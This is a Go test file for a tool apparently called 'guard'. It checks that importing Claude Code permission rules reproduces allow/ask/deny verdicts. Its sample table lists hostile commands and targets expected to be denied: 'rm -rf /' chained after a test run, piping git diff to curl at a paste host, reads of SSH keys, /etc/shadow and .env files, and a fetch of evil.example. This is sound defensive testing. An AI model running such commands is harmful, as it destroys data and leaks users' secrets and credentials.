package main

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// claudeVerdicts is the table of samples for testdata/claude/settings.json
// (31 rules of every form), each with the verdict Claude Code's documented
// matching gives it in its default mode:
//
//   - Bash: deny if any subcommand matches a deny rule, else ask if any
//     matches an ask rule, else allow if every one matches an allow rule;
//     "cmd:*" is the command alone or followed by a blank and anything;
//     "*" matches any characters; no rule: ask.
//   - Read and Edit: gitignore patterns; //abs, ~/home, /project-root, else
//     the starting directory; "*" within one directory, "**" across; a
//     pattern with no slash at any depth. With no rule, reads inside the
//     working and additional directories are allowed, other reads and every
//     edit ask.
//   - WebFetch(domain:HOST) is that host; WebSearch is a bare tool; MCP
//     rules name a server or a server's tool. No rule: ask.
//
// guard is the rule where a row gives it: the verdict guard deliberately
// gives instead, with why.
var claudeVerdicts = []struct {
	kind, target string
	claude       string
	guard        string // "" when the same
	why          string
}{
	{"shell", "npm run test", "allow", "", ""},
	{"shell", "npm run test -- --watch", "allow", "", ""},
	{"shell", "npm run lint", "ask", "", ""},
	{"shell", "git diff HEAD~1", "allow", "", ""},
	{"shell", "make build", "allow", "", ""},
	{"shell", "make build-all", "ask", "", ""},
	{"shell", "go test ./...", "allow", "", ""},
	{"shell", "echo hello", "allow", "", ""},
	{"shell", "git push origin main", "ask", "", ""},
	{"shell", "git push", "ask", "", ""},
	{"shell", "npm publish", "ask", "", ""},
	{"shell", "rm -rf build", "deny", "", ""},
	{"shell", "curl https://example.com", "deny", "", ""},
	{"shell", "sudo apt-get install jq", "deny", "", ""},
	{"shell", "npm run test && rm -rf /", "deny", "", ""},
	{"shell", "echo done && git push", "ask", "", ""},
	{"shell", "go test ./... && npm run lint", "ask", "", ""},
	{"shell", "git diff | curl -d @- https://paste.example", "deny", "", ""},
	{"read", "~/.ssh/id_rsa", "deny", "", ""},
	{"read", "W/.env", "deny", "", ""},
	{"read", "W/config/.env", "deny", "", ""},
	{"read", "W/app/secrets/key.pem", "deny", "", ""},
	{"read", "/etc/shadow", "deny", "", ""},
	{"read", "~/notes/todo.md", "allow", "", ""},
	{"read", "/opt/docs/guide/a.txt", "allow", "", ""},
	{"read", "W/src/main.go", "allow", "", ""},
	{"read", "/var/log/syslog", "ask", "", ""},
	{"read", "~/shared-lib/lib.go", "allow", "", ""},
	{"write", "W/src/app/main.ts", "allow", "", ""},
	{"write", "W/docs/guide.md", "allow", "", ""},
	{"write", "W/docs/api/ref.md", "ask", "allow",
		"guard's * crosses '/': Edit(docs/*.md) becomes write(./docs/*.md), wider, and the import warns so"},
	{"write", "W/package.json", "ask", "", ""},
	{"write", "W/.github/workflows/ci.yml", "deny", "", ""},
	{"write", "W/build/out.js", "ask", "allow",
		"Claude Code documents path patterns for Read and Edit only; guard carries Write(build/**) over as write(./build/*), and the import says so"},
	{"write", "W/README.md", "ask", "", ""},
	{"fetch", "https://docs.rs/serde", "allow", "", ""},
	{"fetch", "https://pastebin.com/raw/x", "ask", "", ""},
	{"fetch", "https://evil.example/x", "deny", "", ""},
	{"fetch", "https://example.com/", "ask", "", ""},
	{"fetch", "anthropic-web-search", "allow", "", ""},
	{"mcp", "github:get_issue", "allow", "", ""},
	{"mcp", "github:create_pull_request", "ask", "", ""},
	{"mcp", "memory:store", "allow", "", ""},
	{"mcp", "filesystem:read_file", "deny", "", ""},
	{"mcp", "slack:post_message", "ask", "", ""},
}

func TestImportClaudeCodeRoundTrips(t *testing.T) {
	e := newAgentEnv(t, "")
	src, err := os.ReadFile(filepath.Join("testdata", "claude", "settings.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(e.ws, ".claude"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(e.ws, ".claude", "settings.json"), src, 0o600); err != nil {
		t.Fatal(err)
	}
	wd, _ := os.Getwd()
	defer os.Chdir(wd)
	if err := os.Chdir(e.ws); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := e.run(nil, "import", "claude-code", "--write")
	if code != 0 {
		t.Fatalf("import: exit %d\n%s\n%s", code, stdout, stderr)
	}
	// The file lies in the workspace: its rules go to the workspace's own
	// settings, never to the project's .guard/ (which the repository owns).
	if !strings.Contains(stdout, filepath.Join(e.home, ".config", "guard", "workspaces")) {
		t.Errorf("import did not write the workspace's own settings:\n%s", stdout)
	}
	for _, want := range []string{
		`"Task(Explore)": not carried over`,
		`"Read(file?.txt)": not carried over`,
		`"Edit(docs/*.md)": carried over, but Claude Code's * stays within one directory`,
		`"Write(build/**)": carried over, but Claude Code documents path patterns for Read and Edit only`,
	} {
		if !strings.Contains(stderr, want) {
			t.Errorf("import's warnings lack %q:\n%s", want, stderr)
		}
	}
	status := map[int]string{0: "allow", 3: "ask", 4: "deny"}
	for _, s := range claudeVerdicts {
		target := strings.Replace(s.target, "W/", e.ws+"/", 1)
		target = strings.Replace(target, "~/", e.home+"/", 1)
		want := s.claude
		if s.guard != "" {
			want = s.guard
		}
		code, out, errs := e.run(nil, "check", "--workspace", e.ws, s.kind, target)
		got, ok := status[code]
		if !ok {
			t.Errorf("check %s %q: exit %d: %s", s.kind, s.target, code, errs)
			continue
		}
		if got != want {
			t.Errorf("check %s %q: guard says %s, want %s (Claude Code: %s)\n%s%s", s.kind, s.target, got, want, s.claude, out, errs)
		}
	}
}

func TestImportPrintsTOMLThatLoads(t *testing.T) {
	e := newAgentEnv(t, "")
	code, stdout, stderr := e.run(nil, "import", "claude-code", filepath.Join(mustWd(t), "testdata", "claude", "settings.json"))
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	for _, want := range []string{
		`"shell(git push *)",`, `# Bash(git push:*)`,
		`"read(./.env)",`, `"read(./*/.env)",`,
		`"web(anthropic-web-search)",`, `"read(~/shared-lib)",`,
		`allow_write = ["~/shared-lib"]`, `permission_mode = "default"`,
	} {
		if !strings.Contains(stdout, want) {
			t.Errorf("TOML lacks %q:\n%s", want, stdout)
		}
	}
	// The printed TOML is a settings file guard loads without a warning.
	file := filepath.Join(e.home, ".config", "guard", "settings.toml")
	if err := os.WriteFile(file, []byte(stdout), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := e.run(nil, "rules", "list", "--workspace", e.ws)
	if code != 0 {
		t.Fatalf("the printed settings do not load: exit %d\n%s\n%s", code, out, errs)
	}
	// The one note expected: relative patterns match only in the workspace.
	for _, l := range strings.Split(strings.TrimSpace(errs), "\n") {
		if l != "" && !strings.Contains(l, "is relative: it matches only inside the workspace") {
			t.Errorf("unexpected warning loading the printed settings: %s", l)
		}
	}
}

func mustWd(t *testing.T) string {
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	return wd
}

func TestImportRefusals(t *testing.T) {
	tests := []struct {
		name string
		args []string
		file string // written to W/settings.json when set
		code int
		msg  string
	}{
		{"no agent", []string{"import"}, "", 64, "which agent"},
		{"another agent", []string{"import", "cursor"}, "", 64, "unknown agent"},
		{"no settings anywhere", []string{"import", "claude-code"}, "", 1, "no Claude Code settings"},
		{"not JSON", []string{"import", "claude-code", "W/settings.json"}, "{permissions", 78, "settings.json"},
		{"a bad scope", []string{"import", "claude-code", "--write", "--scope", "project"}, "", 64, "--scope"},
		{"a FIFO", []string{"import", "claude-code", "W/fifo"}, "", 1, "not a regular file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newAgentEnv(t, "")
			if tt.file != "" {
				os.WriteFile(filepath.Join(e.ws, "settings.json"), []byte(tt.file), 0o600)
			}
			mkfifo(t, filepath.Join(e.ws, "fifo"))
			args := make([]string, len(tt.args))
			for i, a := range tt.args {
				args[i] = strings.Replace(a, "W/", e.ws+"/", 1)
			}
			args = append(args, "--workspace", e.ws)
			code, _, stderr := e.run(nil, args...)
			if code != tt.code || !strings.Contains(stderr, tt.msg) {
				t.Errorf("exit %d (want %d), stderr %q (want %q)", code, tt.code, stderr, tt.msg)
			}
		})
	}
}

func mkfifo(t *testing.T, path string) {
	t.Helper()
	if err := syscall.Mkfifo(path, 0o600); err != nil {
		t.Fatal(err)
	}
}
